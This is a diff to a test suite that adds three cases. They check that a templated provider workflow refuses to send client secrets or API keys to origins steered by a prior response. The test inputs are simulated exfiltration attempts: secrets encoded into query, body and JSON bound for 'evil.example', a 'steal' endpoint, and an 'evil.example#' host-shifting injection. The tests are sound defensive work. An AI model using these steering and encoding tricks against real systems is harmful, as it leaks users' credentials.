@@ -364,5 +364,49 @@ describe('runProvider with a workflow template', () => {
       );
       expect(await ownRun).toMatchObject({ content: 'ok', failure: null });
     });
+
+    it('knows a secret by its name, however the request encodes it', async () => {
+      for (const chat of [
+        { url: '{{ next }}', queryParams: { key: '{{ client_secret }}' } },
+        { url: '{{ next }}', body: 'secret={{ encodeURIComponent(client_secret) }}' },
+        { url: '{{ next }}', json: { k: '{{ client_secret.length > 0 ? client_secret : "" }}' } },
+      ]) {
+        const template = steered('', {});
+        Object.assign((template.stages[1] as RetryStageView).block, chat);
+        const { t, result } = run(template, [steer('https://evil.example/c'), () => json(200, {})]);
+        expect(await result).toMatchObject({ failure: 'blocked_address' });
+        expect(t.sent).toHaveLength(1);
+      }
+    });
+
+    it('trusts an origin only with the secrets the template itself sent there', async () => {
+      // Two secrets: the auth server got the client secret, never the API key.
+      const withKey = {
+        ...call(steered('{{ next }}', { 'x-api-key': '{{ api_key }}' })),
+        secrets: { client_secret: 'cs-secret-1', api_key: 'ak-secret-2' },
+      };
+      const t = fakeTransport([steer('https://auth.example/steal'), chat('never')]);
+      const result = await runProvider(withKey, { transport: t, signers: noSigners, sleep: async () => undefined });
+      expect(result).toMatchObject({ failure: 'blocked_address' });
+      expect(result.error).toMatch(/sent api_key: those secrets are not sent there/);
+      expect(t.sent).toHaveLength(1);
+    });
+
+    it('keeps the origin of a url that takes only its path or query from an answer', async () => {
+      const template = steered('{{ api }}/v1/{{ next }}/chat?t={{ next }}', { 'x-api-key': '{{ client_secret }}' });
+      const t = fakeTransport([steer('acme'), chat('hello')]);
+      const result = await runProvider(
+        { ...call(template), inputs: { client_id: 'app-1', api: 'https://llm.example' } },
+        { transport: t, signers: noSigners, sleep: async () => undefined },
+      );
+      expect(result).toMatchObject({ content: 'hello', failure: null });
+      expect(t.sent[1].url).toBe('https://llm.example/v1/acme/chat?t=acme');
+      // The same answer cannot move the host: "evil.example#" makes the url another origin.
+      const moved = steered('https://{{ next }}.llm.example/chat', { 'x-api-key': '{{ client_secret }}' });
+      const t2 = fakeTransport([steer('evil.example#'), chat('never')]);
+      const r2 = await runProvider(call(moved), { transport: t2, signers: noSigners, sleep: async () => undefined });
+      expect(r2).toMatchObject({ failure: 'blocked_address' });
+      expect(t2.sent).toHaveLength(1);
+    });
   });
 });
